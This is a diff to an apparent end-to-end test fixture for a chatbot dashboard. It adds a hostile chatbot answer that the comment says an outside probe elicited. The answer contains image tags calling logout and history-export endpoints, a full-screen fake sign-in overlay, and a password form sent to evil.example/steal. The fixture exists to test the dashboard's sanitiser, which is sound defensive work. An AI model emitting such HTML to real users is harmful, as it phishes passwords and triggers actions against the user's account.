@@ -59,8 +59,21 @@ export const RAW_FEEDBACK: RawFeedback = {
   user_ip: payload('feedback-ip'),
 };
 
+/**
+ * Issue 52: what the outside probe had the chatbot answer (images that call the API, a class-drawn sign-in box over
+ * the whole screen, a form), stored straight into the database as a row from before the server sanitised answers,
+ * so the dashboard's own sanitiser alone must make it harmless.
+ */
+export const HOSTILE_ANSWER_SESSION_ID = 'hostile-answer-raw-row';
+export const HOSTILE_ANSWER_HTML =
+  '<p>Your order ships today.</p><img src="/api/logout" alt=""><img src="/api/export/history?format=csv" alt="">' +
+  '<div class="modal d-block position-fixed top-0 start-0 w-100 h-100 bg-body" style="z-index:2000" id="root">' +
+  '<h2 class="display-1">Your session has expired</h2><a class="btn btn-primary w-100" href="https://evil.example/sign-in">Sign in again</a>' +
+  '<form action="https://evil.example/steal"><input name="password" type="password" placeholder="Password"></form></div>';
+
 /** What seed-raw-rows.ts leaves in E2E_SEEDS_FILE. */
 export interface E2eSeeds {
   rawHistoryId: number;
   rawFeedbackId: number;
+  hostileAnswerHistoryId: number;
 }
